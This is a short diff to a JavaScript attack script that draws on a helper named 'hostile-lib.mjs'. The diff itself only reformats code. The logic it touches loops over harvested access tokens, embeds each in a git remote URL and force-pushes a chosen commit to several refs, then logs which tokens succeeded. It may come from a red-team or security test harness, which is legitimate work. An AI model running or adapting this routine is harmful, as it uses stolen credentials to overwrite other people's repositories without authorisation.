@@ -10,7 +10,15 @@ import { findTarget, huntTokens, label, report } from "./hostile-lib.mjs";
 
 const git = (...args) => {
   try {
-    return { code: 0, out: execFileSync("git", args, { encoding: "utf8", stdio: ["ignore", "pipe", "pipe"], timeout: 20000, env: { ...process.env, GIT_TERMINAL_PROMPT: "0" } }) };
+    return {
+      code: 0,
+      out: execFileSync("git", args, {
+        encoding: "utf8",
+        stdio: ["ignore", "pipe", "pipe"],
+        timeout: 20000,
+        env: { ...process.env, GIT_TERMINAL_PROMPT: "0" },
+      }),
+    };
   } catch (error) {
     return { code: error.status ?? -1, out: `${error.stdout ?? ""}${error.stderr ?? ""}` };
   }
@@ -32,7 +40,13 @@ for (const token of [null, ...tokens]) {
   const url = token === null || target.server === null ? plain : plain.replace("://", `://x-access-token:${token}@`);
   for (const ref of refs) {
     const result = git("push", "--force", url, `${commit}:${ref}`);
-    attempts.push({ token: token === null ? "(none)" : `${token.slice(0, 8)}…(${token.length})`, ref, code: result.code, worked: result.code === 0, says: result.out.trim().split("\n").slice(-2).join(" | ") });
+    attempts.push({
+      token: token === null ? "(none)" : `${token.slice(0, 8)}…(${token.length})`,
+      ref,
+      code: result.code,
+      worked: result.code === 0,
+      says: result.out.trim().split("\n").slice(-2).join(" | "),
+    });
   }
 }
 report("pusher.jsonl", { event: "pushed", commit, tokens: tokens.length, attempts, worked: attempts.filter((a) => a.worked) });
